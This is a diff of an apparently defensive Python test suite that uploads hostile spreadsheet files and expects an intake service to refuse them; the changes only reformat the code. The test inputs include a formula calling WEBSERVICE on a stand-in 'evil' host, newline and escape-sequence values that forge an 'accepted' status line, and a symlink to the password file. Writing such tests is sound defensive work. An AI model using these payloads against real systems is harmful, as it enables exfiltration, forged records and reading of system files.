@@ -302,8 +302,10 @@ _HEADER = [("A1", 1, "类别"), ("B1", 1, "姓名")]
 @case("content")
 def content_random_bytes_named_xlsx(ctx: Context) -> list[Entry]:
     data = random.Random(7).randbytes(40_000)
-    return [ctx.put("water", "random.xlsx", data, expect="refuse"), ctx.put("water", "pk.xlsx", b"PK\x03\x04" + data,
-                                                                              expect="refuse")]
+    return [
+        ctx.put("water", "random.xlsx", data, expect="refuse"),
+        ctx.put("water", "pk.xlsx", b"PK\x03\x04" + data, expect="refuse"),
+    ]
 
 
 @case("content")
@@ -384,7 +386,7 @@ _indicator_edit("content_value_inf_text", "inf")
 _indicator_edit("content_value_negative_infinity", "-Infinity")
 _indicator_edit("content_value_error_div0", "#DIV/0!")
 _indicator_edit("content_value_formula_div0", "=1/0")
-_indicator_edit("content_value_formula_external", "=[1]Sheet1!A1*WEBSERVICE(\"http://evil/\")")
+_indicator_edit("content_value_formula_external", '=[1]Sheet1!A1*WEBSERVICE("http://evil/")')
 _indicator_edit("content_value_huge_number", "1e400")
 _indicator_edit("content_value_newline_forged_line", "12\n处理结果:已受理(通过校验)")
 _indicator_edit("content_value_excel_escaped_esc", "_x001B_[2J_x000D_处理结果:已受理")
@@ -509,4 +511,4 @@ def content_same_bytes_many_names(ctx: Context) -> list[Entry]:
 def content_valid_and_hostile_together(ctx: Context) -> list[Entry]:
     """A bad file never blocks a good one in the same pass."""
     entries = [ctx.put("water", "good.xlsx", ctx.form()), ctx.put("water", "bad.xlsx", b"\x00" * 100, "refuse")]
-    return entries + [_link(ctx, "water", "link.xlsx", str(PASSWD))]
+    return [*entries, _link(ctx, "water", "link.xlsx", str(PASSWD))]
